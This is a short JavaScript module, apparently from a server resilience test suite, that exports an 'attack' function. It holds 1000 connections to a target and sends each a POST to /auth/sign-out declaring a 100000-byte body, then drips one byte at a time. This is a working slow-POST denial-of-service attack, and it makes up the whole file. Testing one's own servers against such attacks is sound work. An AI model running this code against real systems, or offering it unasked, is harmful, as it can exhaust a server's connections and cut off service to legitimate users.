// A thousand forms that never end: a byte a second.
import { holdConnections } from '../support/connections.mjs';

export const attack = (target) =>
  holdConnections(target, 1000, (socket) => {
    socket.resume();
    const { host, origin } = new URL(target.origin);
    socket.write(
      [
        'POST /auth/sign-out HTTP/1.1',
        `Host: ${host}`,
        `Origin: ${origin}`,
        'Content-Type: application/x-www-form-urlencoded',
        'Content-Length: 100000',
        '',
        '',
      ].join('\r\n'),
    );
    return () => socket.write('a');
  });
